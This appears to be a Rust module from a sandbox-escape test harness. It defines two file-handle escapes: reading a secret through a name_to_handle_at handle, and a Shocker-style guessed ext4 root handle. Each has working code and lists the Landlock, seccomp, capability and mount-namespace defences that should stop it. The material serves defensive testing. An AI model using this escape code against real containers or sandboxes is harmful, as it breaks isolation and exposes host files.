//! File handles name a file without a path: whoever may open them needs no directory on the way, and
//! a guessed handle of the file system's root leads to everything on it.

use super::descriptor::contents;
use super::handles::{again, open};
use harness::escape::{Escape, Layer, Need};
use harness::scene::Scene;
use rustix::fs::{Mode, OFlags};
use std::io;
use std::os::fd::AsFd;
use std::path::Path;

const HANDLE: Escape = Escape {
    techniques: &["FR-OPENBYHANDLE"],
    references: &["https://man7.org/linux/man-pages/man2/open_by_handle_at.2.html"],
    needs: &[Need::Capability(2, "CAP_DAC_READ_SEARCH")],
    stops: &[Layer::Landlock, Layer::Seccomp, Layer::Hygiene, Layer::MountNamespace],
    ..Escape::BLANK
};

pub(super) const ESCAPES: &[Escape] = &[
    Escape {
        id: "fs-read/handle",
        summary: "Read a secret through the file handle that the kernel gives for its path",
        stops: &[Layer::Landlock, Layer::Seccomp, Layer::Hygiene, Layer::MountNamespace],
        witnesses: &[
            "hygiene/capabilities",
            "landlock/read-file",
            "seccomp/name_to_handle_at",
            "seccomp/open_by_handle_at",
        ],
        native: Some(by_path),
        ..HANDLE
    },
    Escape {
        id: "fs-read/handle.guessed-root",
        summary: "Read a secret beneath a guessed handle of the file system's root directory",
        references: &[
            "https://github.com/gabrtv/shocker",
            "https://man7.org/linux/man-pages/man2/open_by_handle_at.2.html",
        ],
        witnesses: &["hygiene/capabilities", "landlock/read-file", "seccomp/open_by_handle_at"],
        // Only ext4 has a root directory whose handle is known beforehand.
        absent: &[libc::ENOSYS, libc::EOPNOTSUPP],
        native: Some(by_guess),
        ..HANDLE
    },
];

fn by_path(scene: &Scene) -> io::Result<Vec<u8>> {
    contents(again(scene, "secret", OFlags::RDONLY)?)
}

/// The inode number of ext4's root directory is 2 and its generation 0.
fn by_guess(scene: &Scene) -> io::Result<Vec<u8>> {
    const EXT4: i64 = 0xEF53;
    const INODE_AND_GENERATION: i32 = 1;
    if rustix::fs::statfs(scene.run())?.f_type != EXT4 {
        return Err(io::Error::from_raw_os_error(libc::EOPNOTSUPP));
    }
    let words = [8, INODE_AND_GENERATION, 2, 0];
    let handle: Vec<u8> = words.iter().flat_map(|word| word.to_ne_bytes()).collect();
    let root = open(scene, &handle, OFlags::PATH | OFlags::DIRECTORY)?;
    beneath(root, &scene.path("secret")?)
}

/// The file system may be mounted anywhere on the way to the secret, so every tail of the path is
/// tried.
fn beneath(root: impl AsFd, secret: &Path) -> io::Result<Vec<u8>> {
    let mut tail = secret.strip_prefix("/").unwrap_or(secret);
    loop {
        match rustix::fs::openat(&root, tail, OFlags::RDONLY, Mode::empty()) {
            Ok(file) => return contents(file),
            Err(rustix::io::Errno::NOENT) => {}
            Err(error) => return Err(error.into()),
        }
        let mut parts = tail.components();
        parts.next();
        tail = parts.as_path();
        if tail.as_os_str().is_empty() {
            return Err(io::ErrorKind::NotFound.into());
        }
    }
}
